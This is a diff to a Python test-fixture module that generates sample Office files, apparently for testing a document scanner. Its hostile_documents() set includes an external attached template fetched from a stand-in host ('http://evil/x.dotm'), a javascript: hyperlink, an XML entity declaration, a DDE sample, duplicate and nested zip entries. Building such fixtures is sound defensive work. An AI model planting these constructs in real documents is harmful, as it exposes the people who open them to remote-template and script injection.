@@ -58,6 +58,11 @@ def archive(
 _MAIN = "application/vnd.openxmlformats-officedocument."
 
 
+def relationship(kind: bytes, target: bytes) -> bytes:
+    what = b'<Relationship Id="r1" Type="http://x/relationships/' + kind + b'" Target="' + target
+    return b"<Relationships>" + what + b'" TargetMode="External"/></Relationships>'
+
+
 def office(kind: str = "docx", **more: bytes) -> dict[str, bytes]:
     main = {
         "docx": "wordprocessingml.document.main+xml",
@@ -103,7 +108,7 @@ def documents() -> Iterator[Sample]:
         yield Sample(f"document:{kind}", archive(office(kind)), f"a.{kind}")
     chart = office("pptx", ppt__embeddings__Sheet1_DOT_xlsx=archive(office("xlsx")))
     yield Sample("document:pptx-with-sheet", archive(chart), "a.pptx")
-    linked = b'<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>'
+    linked = relationship(b"hyperlink", b"https://example.org")
     yield Sample(
         "document:docx-link", archive(office(word___rels__document_DOT_xml_DOT_rels=linked)), "a.docx"
     )
@@ -182,7 +187,9 @@ def hostile_documents() -> Iterator[Sample]:
         "entities": archive(office(word__x_DOT_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
         "template": archive(
             office(
-                word___rels__settings_DOT_xml_DOT_rels=b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
+                word___rels__settings_DOT_xml_DOT_rels=relationship(
+                    b"attachedTemplate", b"http://evil/x.dotm"
+                )
             )
         ),
         "dde": archive(
@@ -200,9 +207,7 @@ def hostile_documents() -> Iterator[Sample]:
         "twice": archive({**office(), "WORD/document.xml": b"x"}),
         "nested-zip": archive(office(word__media__a_DOT_png=docx)),
         "js-link": archive(
-            office(
-                word___rels__d_DOT_rels=b'<Relationship Type="http://x/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'
-            )
+            office(word___rels__d_DOT_rels=relationship(b"hyperlink", b"javascript:alert(1)"))
         ),
     }
     at = docx.find(b"PK\x01\x02")
